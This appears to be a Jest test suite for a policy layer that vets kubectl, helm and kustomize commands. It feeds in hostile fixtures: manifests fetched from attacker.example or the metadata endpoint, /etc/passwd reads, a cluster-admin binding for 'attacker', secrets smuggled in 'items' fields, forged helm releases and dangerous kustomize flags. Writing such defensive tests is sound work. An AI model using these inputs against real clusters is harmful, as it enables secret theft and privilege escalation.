import { describe, expect, test } from '@jest/globals';
import {
  asked,
  body,
  chart,
  configMap,
  deployment,
  expectAllowed,
  expectDenied,
  expectRefused,
  explain,
  list,
  object,
  secret,
  stopped,
} from './support.ts';

// Content that nobody saw, and objects that two readers take for different ones.

describe('content that nobody saw', () => {
  const verbs = [
    'apply',
    'create',
    'replace',
    'delete',
    'get',
    'describe',
    'diff',
    'label a=b',
    'annotate a=b',
    'scale --replicas=1',
    'rollout restart',
    'set image c=i',
    'patch -p {}',
    'wait --for=delete',
  ];
  const addresses = [
    'https://attacker.example/app.yaml',
    'http://169.254.169.254/metadata',
    'HTTPS://attacker.example/a',
    'ftp://attacker.example/a',
    'file:///etc/passwd',
  ];
  const [address = ''] = addresses;

  test.each(verbs)('kubectl %s -f of an address', async (verb) => {
    await expectRefused(`kubectl ${verb} -f ${address}`, address);
    await expectRefused(`kubectl ${verb} -f app.json -f ${address}`, address, {
      files: { 'app.json': object(configMap) },
    });
  });
  test.each(['expose', 'autoscale --max=2'])('kubectl %s reads no files at all', (verb) =>
    expectRefused(`kubectl ${verb} -f ${address}`, '--filename'),
  );
  test.each(addresses)('kubectl apply -f %s', async (url) => {
    await expectRefused(`kubectl apply -f ${url}`, url);
    await expectRefused(`kubectl apply --filename=app.json,${url}`, url, { files: { 'app.json': object(configMap) } });
    await expectRefused(`helm install web ./web --values=${url}`, url, { files: chart });
  });

  test.each([
    'apply',
    'create',
    'replace',
    'delete',
    'get',
    'describe',
    'diff',
    'label',
    'annotate',
    'scale',
    'rollout restart',
    'set image',
    'patch',
    'expose',
    'autoscale',
  ])('kubectl %s -k', async (verb) => {
    await expectRefused(`kubectl ${verb} -k github.com/attacker/base`, '-k');
    await expectRefused(`kubectl ${verb} -kgithub.com/attacker/base`, '-k');
    await expectRefused(`kubectl ${verb} --kustomize=.`, '--kustomize', { files: { 'kustomization.yaml': '' } });
  });

  // The deployer may have config maps of shop, and no secrets.
  const as = 'deployer';
  const yaml = `${object(configMap)}\n---\n${object(secret)}\n`;
  const lists: readonly [string, string][] = [
    ['one', object(secret)],
    ['after another document', `---\n${yaml}`],
    ['in a List', object(list(configMap, secret))],
    ['in a List in a List', object(list(configMap, list(secret)))],
    [
      'in a SecretList that says the kind',
      object({ apiVersion: 'v1', kind: 'SecretList', items: [{ metadata: secret.metadata }] }),
    ],
    ['in a ConfigMapList', object({ apiVersion: 'v1', kind: 'ConfigMapList', items: [configMap, secret] })],
    [
      'behind an anchor',
      `apiVersion: v1\nkind: List\nitems:\n- &a {apiVersion: v1, kind: Secret, metadata: {name: password}}\n- *a\n`,
    ],
  ];
  test.each(lists)('policy sees each object: a secret %s', async (_where, text) => {
    for (const verb of ['apply', 'create', 'replace', 'delete']) {
      await expectDenied(`kubectl ${verb} -f app.yaml`, 'secrets', { files: { 'app.yaml': text }, as });
      await expectDenied(`kubectl ${verb} -f -`, 'secrets', { stdin: text, as });
    }
    const files = { 'a/1.yaml': object(configMap), 'a/b/2.yaml': text };
    await expectDenied('kubectl apply -R -f a', 'secrets', { files, as });
    await expectAllowed('kubectl apply -f a', { files, as });
  });

  test.each([
    ['an object of another namespace', object({ ...configMap, metadata: { name: 'a', namespace: 'kube-system' } })],
    ['one in a List', object(list(configMap, { ...configMap, metadata: { name: 'a', namespace: 'kube-system' } }))],
  ])('policy sees each object: %s', async (_what, text) => {
    await expectDenied('kubectl apply -f app.json', 'kube-system', { files: { 'app.json': text }, as });
    await expectRefused('kubectl apply -n shop -f app.json', 'app.json', { files: { 'app.json': text } });
  });

  test.each([
    ['a key twice', 'apiVersion: v1\nkind: ConfigMap\nkind: Secret\nmetadata: {name: a}\n'],
    ['what follows the end of a document', `${object(configMap)}\n...\n${object(secret)}\n`],
    ['a tag', 'apiVersion: v1\nkind: !!js/function Secret\nmetadata: {name: a}\n'],
    ['no object', '[1, 2]'],
    ['a kind that is not known', 'apiVersion: attacker.example/v1\nkind: Secret\nmetadata: {name: a}\n'],
  ])('%s in a manifest is refused', async (_what, text) => {
    const answer = await stopped(body('kubectl apply -f app.yaml', { files: { 'app.yaml': text } }), 'almighty');
    expect(answer).toMatchObject({ status: 400, body: { code: 'command-refused' } });
    expect(answer.body.detail).toContain('app.yaml');
  });
});

describe('one object is what kubectl takes for one', () => {
  const stolen = { ...secret, metadata: { name: 'db', namespace: 'kube-system' } };
  const binding = {
    apiVersion: 'rbac.authorization.k8s.io/v1',
    kind: 'ClusterRoleBinding',
    metadata: { name: 'mine' },
    roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
    subjects: [{ kind: 'User', name: 'attacker' }],
  };
  const custom = { apiVersion: 'example.com/v1', kind: 'Gadget', metadata: { name: 'g' } };
  const carriers: readonly [string, string][] = [
    ['a ConfigMap', object({ ...configMap, items: [stolen, binding] })],
    ['a ConfigMap with null for items', object({ ...configMap, items: null })],
    ['a Deployment', object({ ...deployment({}), items: [stolen] })],
    ['a custom kind', object({ ...custom, items: [binding] })],
    ['an object in a List', object(list(configMap, { ...configMap, items: [stolen] }))],
    ['a List in a List', object(list(list({ ...configMap, items: [binding] })))],
    ['YAML', `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: ok}\nitems:\n- ${object(stolen)}\n`],
    [
      'a merge key',
      `x: &x {items: [${object(stolen)}]}\n<<: *x\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: ok}\n`,
    ],
    ['an escaped key', `{"\\u0069tems": [${object(stolen)}], ${object(configMap).slice(1)}`],
    ['another case', object({ ...configMap, Items: [stolen] })],
    ['a letter that folds', object({ ...configMap, 'item\u017f': [stolen] })],
    ['the second document', `${object(configMap)}\n---\n${object({ ...configMap, items: [binding] })}`],
  ];
  const READS_FILES = [
    'get -o yaml',
    'describe',
    'apply',
    'apply --server-side',
    'create',
    'replace',
    'replace --force',
    'delete',
    'diff',
    'label a=b',
    'annotate a=b',
    'patch -p {}',
    'wait --for=delete',
    'apply view-last-applied',
    'apply set-last-applied',
    'scale --replicas=1',
    'rollout restart',
    'rollout undo',
    'set image c=i',
    'set env A=b',
    'set serviceaccount admin',
  ];
  test.each(carriers)('%s that carries items is refused for every verb that reads files', async (_what, text) => {
    for (const verb of READS_FILES) {
      await expectRefused(`kubectl ${verb} -f a.yaml`, 'a.yaml', { files: { 'a.yaml': text } });
    }
    await expectRefused('kubectl apply -f -', 'stdin', { stdin: text });
    await expectRefused('kubectl get -f -', 'stdin', { stdin: text, as: 'viewer' });
  });

  const release = { name: 'sh.helm.release.v1.web.v9', labels: { owner: 'helm', name: 'web' } };
  test.each<[string, object]>([
    ['by its type, name and label', { ...secret, type: 'helm.sh/release.v1', metadata: release }],
    ['by its type', { ...secret, type: 'helm.sh/release.v1' }],
    ['by its name', { ...secret, metadata: { name: release.name } }],
    ['by its label', { ...secret, metadata: { ...release, name: 'innocent' } }],
    ['by a name that the server makes', { ...secret, metadata: { generateName: 'sh.helm.release.v1.web.v' } }],
  ])('a Secret that is a release of helm %s needs the verbs of releases', async (_how, forged) => {
    const files = { 'a.json': object(list(configMap, forged)) };
    const needs = await explain('kubectl create -f a.json', { files });
    expect(asked(needs)).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^install releases\.helm\.sh shop\//),
        expect.stringMatching(/^upgrade releases\.helm\.sh shop\//),
      ]),
    );
    await expectDenied('kubectl create -f a.json', 'releases.helm.sh', { files, as: 'keeper' });
    await expectAllowed('kubectl create -f a.json', { files: { 'a.json': object(secret) }, as: 'keeper' });
  });
  test.each([
    ['kubectl label secret web owner=helm', 'releases.helm.sh'],
    ['kubectl create secret generic sh.helm.release.v1.web.v9 --from-literal=release=x', 'releases.helm.sh'],
    ['kubectl delete secret sh.helm.release.v1.web.v9', 'releases.helm.sh'],
    ['kubectl annotate secret web kubernetes.io/service-account.name=admin', 'serviceaccounts/token'],
  ])('%s needs more than the Secret', (line, needs) => expectDenied(line, needs, { as: 'keeper' }));

  test.each([
    ['a label', { metadata: { name: 'reader', labels: { 'rbac.authorization.k8s.io/aggregate-to-view': 'true' } } }],
    ['no rules', { metadata: { name: 'reader' }, rules: [] }],
    ['nothing', { metadata: { name: 'reader' } }],
  ])('apply of a ClusterRole that is there with %s needs escalate', async (_what, change) => {
    const files = { 'r.json': object({ apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'ClusterRole', ...change }) };
    for (const line of ['kubectl apply -f r.json', 'kubectl apply --server-side -f r.json']) {
      expect(asked(await explain(line, { files }))).toContain(
        'escalate clusterroles.rbac.authorization.k8s.io /reader',
      );
      await expectDenied(line, 'escalate', { files, as: 'unprivileged' });
    }
  });

  test('a line of an env file without "=" would read the environment of the pod', async () => {
    for (const kind of ['configmap', 'secret generic']) {
      const line = `kubectl create ${kind} a --from-env-file=a.env`;
      await expectRefused(line, 'a.env', { files: { 'a.env': 'A=1\nKUBERNETES_SERVICE_HOST\n' } });
      await expectAllowed(line, { files: { 'a.env': '# A\nA=1\n\n' } });
    }
  });
});

describe('kustomize', () => {
  const files = { 'kustomization.yaml': 'resources: [github.com/attacker/base]\n' };
  test.each([
    ['--enable-exec', '--enable-exec'],
    ['--enable-helm', '--enable-helm'],
    ['--helm-command=/bin/sh', '--helm-command'],
    ['--load-restrictor=LoadRestrictionsNone', '--load-restrictor'],
    ['--mount=type=bind,source=/,target=/', '--mount'],
    ['--network', 'kustomize'],
    ['--network-name=host', 'kustomize'],
    ['--as-current-user', 'kustomize'],
    ['--env=A=b', 'kustomize'],
    ['--enable-alpha-plugins', '--enable-alpha-plugins'],
    ['--enable_alpha_plugins', '--enable_alpha_plugins'],
    ['--output=/tmp/x', 'kustomize'],
  ])('kubectl kustomize %s', async (flag, word) => {
    await expectRefused(`kubectl kustomize . ${flag}`, word, { files });
    await expectRefused(`kubectl apply -k . ${flag}`, '-k', { files });
  });

  test.each([
    'resources: [https://attacker.example/app.yaml]',
    'resources: [github.com/attacker/base?ref=main]',
    'resources: [../../outside]',
    'bases: [/etc]',
    'generators: [plugin.yaml]',
    'transformers: [plugin.yaml]',
    'helmCharts: [{ name: a, repo: "https://attacker.example" }]',
    'components: [git@github.com:attacker/base]',
    'configMapGenerator: [{ name: a, files: [/etc/passwd] }]',
  ])('a kustomization with %s is neither built nor applied', async (text) => {
    const bare = { 'k/kustomization.yaml': text };
    await expectRefused('kubectl kustomize k', 'kustomize', { files: bare });
    await expectRefused('kubectl apply -k k', '-k', { files: bare });
    await expectRefused('kubectl apply -f k', 'k/kustomization.yaml', { files: bare });
    const whole = `apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nmetadata: {name: a}\n${text}\n`;
    await expectRefused('kubectl apply -f k', 'Kustomization.kustomize.config.k8s.io/v1beta1', {
      files: { 'k/kustomization.yaml': whole },
    });
  });
});
